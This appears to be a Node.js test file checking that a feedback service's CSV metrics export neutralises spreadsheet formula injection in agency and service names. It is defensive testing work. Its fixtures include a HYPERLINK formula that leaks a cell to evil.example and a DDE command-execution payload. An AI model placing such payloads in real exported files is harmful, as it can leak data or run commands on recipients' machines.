import assert from 'node:assert/strict';
import { after, before, describe, it } from 'node:test';
import { parse } from 'csv-parse/sync';
import { type TestApp, testApp } from '../../../test/helpers/app.ts';
import { buildService, buildTerms } from '../../../test/helpers/catalog.ts';
import { type Client, signedIn } from '../../../test/helpers/client.ts';
import { buildAgency, buildUser } from '../../../test/helpers/factories.ts';

describe('feedback metrics export', () => {
  let t: TestApp;
  let po: Client;
  const hyperlink = '=HYPERLINK("http://evil.example/?leak="&A2,"Open")';

  before(async () => {
    t = await testApp();
    await buildTerms(t.deps);
    const agency = await buildAgency(t.deps, { code: 'gdp', name_en: '@SUM(1+1)*cmd|" /C calc"!A0' });
    await buildService(t.deps, agency.id, { identifier: 'gdp-renewal', data: { name: { ar: '-2+3 تجديد', en: hyperlink } } });
    for (let i = 0; i < 3; i++) {
      const res = await t.app.inject({
        method: 'POST',
        url: '/api/v1/feedback/services/gdp-renewal/ratings',
        payload: { answers: { satisfied: 5 - i } },
        remoteAddress: `198.51.100.${i + 1}`,
      });
      assert.equal(res.statusCode, 201, res.body);
    }
    await buildUser(t.deps, { email: 'po@yusr.gov.sa', role: 'program_admin' });
    po = await signedIn(t.app, 'po@yusr.gov.sa');
  });
  after(() => t.close());

  it('CSV: names such as =HYPERLINK(…) open as text, counts and rates stay numbers', async () => {
    const csv = await po.get('/console/feedback/metrics/export?format=csv&lang=en');
    assert.equal(csv.statusCode, 200);
    const rows = parse(csv.rawPayload, { bom: true }) as string[][];
    const service = rows.find((r) => r[0] === 'service');
    const agency = rows.find((r) => r[0] === 'agency');
    assert.ok(service && agency, JSON.stringify(rows));
    assert.equal(service[1], 'gdp-renewal');
    assert.equal(service[2], `'${hyperlink}`);
    assert.equal(agency[2], '\'@SUM(1+1)*cmd|" /C calc"!A0');
    assert.deepEqual(service.slice(3, 6), ['3', '3', '2'], 'ratings, responses and satisfied are plain numbers');
    for (const r of rows) for (const c of r) assert.doesNotMatch(c, /^[=+\-@\t\r]/, c);
    const ar = parse((await po.get('/console/feedback/metrics/export?format=csv&lang=ar')).rawPayload, { bom: true }) as string[][];
    assert.equal(ar.find((r) => r[0] === 'service')?.[2], "'-2+3 تجديد");
  });
});
